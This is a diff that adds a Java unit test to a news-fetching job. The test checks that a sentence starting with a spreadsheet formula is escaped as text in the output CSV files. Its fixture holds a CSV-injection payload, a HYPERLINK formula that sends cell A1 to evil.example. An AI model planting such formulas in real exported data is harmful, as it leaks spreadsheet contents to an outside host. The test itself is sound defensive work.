@@ -13,6 +13,7 @@ import java.net.InetSocketAddress;
 import java.nio.charset.StandardCharsets;
 import java.nio.file.Files;
 import java.nio.file.Path;
+import java.util.List;
 import java.util.Map;
 import java.util.concurrent.ConcurrentHashMap;
 import java.util.concurrent.atomic.AtomicInteger;
@@ -163,5 +164,22 @@ class FetchNewsJobTest {
         String html = "<html><head><title>" + title + "</title></head><body><article><h1>" + title + "</h1><p>1 " + para
                 + "</p><p>2 " + para + "</p><p>3 " + para + "</p></article></body></html>";
         pages.put(path, Map.entry(contentType, html.getBytes(java.nio.charset.Charset.forName(charset))));
+    }
+
+    @Test
+    void aSentenceStartingWithAFormulaIsWrittenAsText(@TempDir Path dir) throws Exception {
+        String formula = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Mistral AI\")";
+        String page = ARTICLE.replace("<p>Mistral AI said on Tuesday", "<p>" + formula + " Mistral AI said on Tuesday");
+        pages.put("/formula.html", Map.entry("text/html; charset=utf-8", page.getBytes(StandardCharsets.UTF_8)));
+
+        Path out = runOn(dir, "/formula.html");
+
+        String mentions = Files.readString(out.resolve("mentions.csv"));
+        String events = Files.readString(out.resolve("funding_events.csv"));
+        for (String csv : List.of(mentions, events)) {
+            assertThat(csv).contains(",\"'=HYPERLINK(\"\"http://evil.example/").doesNotContain(",\"=HYPERLINK")
+                    .doesNotContain(",=HYPERLINK");
+        }
+        assertThat(mentions).contains(",1700000000,EUR,"); // the amount is still a number
     }
 }
